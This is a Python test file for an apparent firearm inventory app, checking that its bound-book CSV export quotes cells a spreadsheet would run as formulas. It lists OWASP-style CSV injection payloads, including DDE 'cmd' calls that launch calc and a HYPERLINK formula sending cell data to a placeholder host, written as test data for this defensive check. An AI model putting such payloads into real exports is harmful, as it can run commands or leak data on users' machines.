"""Reports show whatever people typed as text, on both backends: the bound-book CSV opens
in a spreadsheet without running a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from coldcheck.domain import commands as c
from coldcheck.domain.values import ItemKind
from coldcheck.reports import boundbook
from coldcheck.reports.text import visible
from coldcheck.service import ColdCheck
from support.service_db import PID

# The OWASP examples of CSV injection, and the two characters it adds to the four signs.
FORMULAS = ["=HYPERLINK(\"https://example.invalid/?\"&A1,\"Error\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
SIGNS = ("=", "+", "-", "@", "\t", "\r")


def _bound_book(app: ColdCheck) -> list[dict[str, str]]:
    text = boundbook.to_csv(boundbook.rows(app.records(PID), app.state(PID).timezone))
    return list(csv.DictReader(io.StringIO(text)))


def _register(app: ColdCheck, item_id: str, text: str) -> None:
    app.execute(PID, c.RegisterItem(
        actor="rosa", item_id=item_id, kind=ItemKind.FIREARM, serial=text, tag=item_id,
        description=text, location_id="truck-safe", chambers=1, caliber=text,
        manufacturer=text, model=text, source=text, importer=text))


def test_bound_book_cells_that_a_spreadsheet_would_run_are_quoted(planned: ColdCheck) -> None:
    for n, formula in enumerate(FORMULAS):
        _register(planned, f"odd-{n}", formula)
        planned.execute(PID, c.DisposeItem(actor="rosa", item_id=f"odd-{n}",
                                           transferee=formula))
    rows = {row["item_id"]: row for row in _bound_book(planned)}
    for n, formula in enumerate(FORMULAS):
        row = rows[f"odd-{n}"]
        typed = {k: v for k, v in row.items() if k not in (
            "item_id", "acquisition_date", "disposition_date", "type",
            "acquisition_event", "disposition_event")}
        assert len(typed) == 7  # source, manufacturer, importer, model, serial, …
        for field, cell in typed.items():
            assert cell == "'" + visible(formula), (field, cell)


def test_bound_book_keeps_ordinary_text_as_typed(planned: ColdCheck) -> None:
    _register(planned, "plain-1", "Colt, 1873 \"Peacemaker\"\nSanta Fe, NM")
    row = next(r for r in _bound_book(planned) if r["item_id"] == "plain-1")
    assert row["serial_number"] == "Colt, 1873 \"Peacemaker\"\nSanta Fe, NM"


@settings(max_examples=30, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40))
def test_no_bound_book_cell_starts_a_formula_or_holds_a_control(planned: ColdCheck,
                                                                text: str) -> None:
    item_id = f"any-{len(planned.state(PID).items)}"
    _register(planned, item_id, text)
    row = next(r for r in _bound_book(planned) if r["item_id"] == item_id)
    for cell in row.values():
        assert not cell.startswith(SIGNS), cell
        assert visible(cell) == cell
    quote = "'" if text.startswith(SIGNS) else ""
    assert row["serial_number"] == quote + visible(text)


@pytest.mark.parametrize("text", ["-", "@", "="])
def test_a_lone_sign_is_quoted_too(planned: ColdCheck, text: str) -> None:
    _register(planned, "sign-1", text)
    row = next(r for r in _bound_book(planned) if r["item_id"] == "sign-1")
    assert row["serial_number"] == "'" + text

